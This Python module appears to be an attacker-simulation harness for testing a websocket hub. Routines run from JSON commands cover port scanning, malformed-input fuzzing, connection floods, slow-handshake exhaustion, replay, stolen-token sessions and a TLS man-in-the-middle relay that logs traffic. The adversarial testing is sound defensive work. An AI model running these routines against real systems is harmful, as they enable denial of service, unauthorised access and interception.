"""A computer on the network that should not be there: its attacks, one a line of JSON, each answered by one.

It checks no certificate and knows no rule; lines that it holds stay open until its standard input ends.
"""

import asyncio
import contextlib
import json
import random
import resource
import ssl
import sys
from typing import Any

from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import ConnectionClosed, InvalidMessage, InvalidStatus

MANY = 1_000
PATIENCE_S = 60.0
ENDS = (OSError, asyncio.IncompleteReadError, ConnectionClosed, InvalidMessage, EOFError)
held: list[Any] = []


def careless() -> ssl.SSLContext:
    """TLS that takes anybody for the hub."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


async def scan(host: str, ports: list[int]) -> dict[str, Any]:
    """Which ports answer."""
    found = []
    for port in ports:
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection(host, port)
            found.append(port)
            writer.close()
    return {"open": found}


async def ask(host: str, port: int, paths: list[str], **headers: str) -> dict[str, Any]:
    """What each path answers one who has no token."""
    return {path: await _status(host, port, path, headers) for path in paths}


async def _status(host: str, port: int, path: str, headers: dict[str, str]) -> int:
    try:
        async with connect(
            f"wss://{host}:{port}{path}", ssl=careless(), additional_headers=headers, proxy=None
        ):
            return 101
    except InvalidStatus as refused:
        return refused.response.status_code
    except InvalidMessage:
        return 0


async def garbage(host: str, port: int, seed: int) -> dict[str, Any]:
    """Send what no seat sends, in TLS and beside it; `said` is what came back to bytes without a token."""
    chance = random.Random(seed)
    upgrade = (
        f"GET /seat HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: "
    ).encode()
    sent = (
        b"GET /seat HTTP/1.1\r\nHost: x\r\n\r\n",
        b"\x16\x03\x01\xff\xff" + chance.randbytes(70_000),
        chance.randbytes(300_000),
        b"GET /seat HTTP/1.1\r\n" + b"X: " + b"a" * 2_000_000 + b"\r\n\r\n",
        b"GET /seat HTTP/1.1\r\n" + b"X: y\r\n" * 100_000 + b"\r\n",
        b"POST /seat HTTP/1.1\r\nContent-Length: 99999999999\r\n\r\n" + b"\0" * 100_000,
        upgrade + b"!!\r\n\r\n",
        upgrade + b"dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n" + b"\x81\xff" + b"\xff" * 100_000,
        b"\0" * 1_000,
    )
    each = [_sent(host, port, what, tls) for tls in (None, careless()) for what in sent]
    return {"said": await asyncio.gather(*each)}


async def _sent(host: str, port: int, what: bytes, tls: ssl.SSLContext | None) -> str:
    try:
        async with asyncio.timeout(PATIENCE_S):
            reader, writer = await asyncio.open_connection(host, port, ssl=tls)
            try:
                writer.write(what)
                answer = await reader.read(4_096)
            finally:
                writer.transport.abort()
    except ENDS:
        return ""
    return answer.decode("latin-1")


async def flood(host: str, port: int) -> dict[str, Any]:
    """Open very many lines, say nothing on them, and hold what is not taken away."""
    opened = await asyncio.gather(*(_silent(host, port) for _ in range(MANY)))
    lines = [line for line in opened if line is not None]
    await asyncio.sleep(1)
    left = [writer for reader, writer in lines if not reader.at_eof() and not reader.exception()]
    held.extend(left)
    return {"opened": len(lines), "left": len(left)}


async def _silent(host: str, port: int) -> Any:
    try:
        async with asyncio.timeout(PATIENCE_S):
            return await asyncio.open_connection(host, port)
    except (OSError, TimeoutError):
        return None


async def slow_handshake(host: str, port: int, lines: int) -> dict[str, Any]:
    """Shake hands by a byte now and then, in TLS and before it, until each line is taken away."""
    ended = await asyncio.gather(
        *(_drip(host, port, careless() if line % 2 else None) for line in range(lines))
    )
    return {"ended": sum(ended)}


async def _drip(host: str, port: int, tls: ssl.SSLContext | None) -> bool:
    try:
        async with asyncio.timeout(PATIENCE_S):
            _, writer = await asyncio.open_connection(host, port, ssl=tls)
            while True:
                writer.write(b"G" if tls else b"\x16")
                await writer.drain()
                await asyncio.sleep(0.2)
    except TimeoutError:
        return False
    except OSError:
        return True


async def _seat(host: str, port: int, token: str) -> ClientConnection:
    return await connect(
        f"wss://{host}:{port}/seat",
        ssl=careless(),
        additional_headers={"Authorization": f"Bearer {token}"},
        compression=None,
        max_size=None,
        close_timeout=1,
        proxy=None,
    )


async def never_read(host: str, port: int, token: str, lines: int) -> dict[str, Any]:
    """Sit down with a stolen token, as often as it is let in, and read nothing; hold the lines."""
    sat = 0
    for _ in range(lines):
        with contextlib.suppress(*ENDS, InvalidStatus):
            link = await _seat(host, port, token)
            link.transport.pause_reading()
            held.append(link)
            sat += 1
    return {"sat": sat}


async def bad_frames(host: str, port: int, token: str) -> dict[str, Any]:
    """Send frames that are none on a line that was let in; `codes` = how each was answered."""
    frames = (
        "",
        "[]",
        "{",
        "NaN",
        '{"type":"command"}',
        "[" * 50_000,
        '{"type":"command","id":"x","action":"a","args":' + "9" * 5_000 + "}",
        '{"type":"command","id":"\\ud800","action":"pair.open"}',
        '{"type":"command","id":"x","action":"x","id":"y"}',
        json.dumps({"type": "command", "id": "x" * 60_000, "action": "token.add"}),
        b"\xff\xfe\x00",
        "x" * 70_000,
        "x" * 20_000_000,
    )
    return {"codes": [await _answer(host, port, token, frame) for frame in frames]}


async def _answer(host: str, port: int, token: str, frame: str | bytes) -> str:
    try:
        async with asyncio.timeout(PATIENCE_S), await _seat(host, port, token) as link:
            await link.send(frame)
            return (await _result(link))["error"]["code"]  # type: ignore[no-any-return]
    except ConnectionClosed as closed:
        return str(closed.rcvd.code) if closed.rcvd else "cut"
    except OSError:
        return "cut"


async def _result(link: ClientConnection) -> dict[str, Any]:
    async for raw in link:
        found: dict[str, Any] = json.loads(raw)
        if found["type"] == "result":
            return found
    raise AssertionError("it was never answered")


async def replay(host: str, port: int, token: str, frame: str, times: int) -> dict[str, Any]:
    """Send a command that was recorded, again and again, on lines of its own; `answers` in their order."""
    answers = []
    for _ in range(times):
        async with asyncio.timeout(PATIENCE_S), await _seat(host, port, token) as link:
            await link.send(frame)
            answers.append(await _result(link))
    return {"answers": answers}


async def stolen(host: str, port: int, token: str) -> dict[str, Any]:
    """Sit down with a stolen token; hold the line."""
    try:
        held.append(await _seat(host, port, token))
    except InvalidStatus as refused:
        return {"status": refused.response.status_code}
    return {"status": 101}


async def was_cut() -> dict[str, Any]:
    """Whether the newest line held is ended by the other side; waits for it."""
    link = held.pop()
    link.transport.resume_reading()
    async with asyncio.timeout(PATIENCE_S):
        await link.wait_closed()
    return {"cut": True}


async def between(port: int, certificate: str, key: str, host: str) -> dict[str, Any]:
    """Sit in the middle from now on: a certificate of one's own to the seats, a line on to the hub."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)

    async def called(near: asyncio.StreamReader, back: asyncio.StreamWriter) -> None:
        heard.append(b"")
        place = len(heard) - 1
        with contextlib.suppress(*ENDS):
            far, on = await asyncio.open_connection(host, port, ssl=careless())

            async def pass_on() -> None:
                while some := await near.read(65_536):
                    heard[place] += some
                    on.write(some)

            passing = asyncio.create_task(pass_on())
            while some := await far.read(65_536):
                back.write(some)
            passing.cancel()
        back.close()

    held.append(await asyncio.start_server(called, "", port, ssl=context))
    return {}


heard: list[bytes] = []


async def overheard() -> dict[str, Any]:
    """How many bytes seats said to the one in the middle."""
    return {"bytes": sum(map(len, heard))}


ATTACKS = (
    scan, ask, garbage, flood, slow_handshake, never_read, bad_frames, replay, stolen, was_cut,
    between, overheard,
)  # fmt: skip


async def _read_and_do() -> None:
    known = {attack.__name__: attack for attack in ATTACKS}
    while line := await asyncio.to_thread(sys.stdin.readline):
        told = json.loads(line)
        found = await known[told.pop("attack")](**told)
        sys.stdout.write(json.dumps(found) + "\n")
        sys.stdout.flush()


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    loop = asyncio.new_event_loop()
    loop.run_until_complete(_read_and_do())
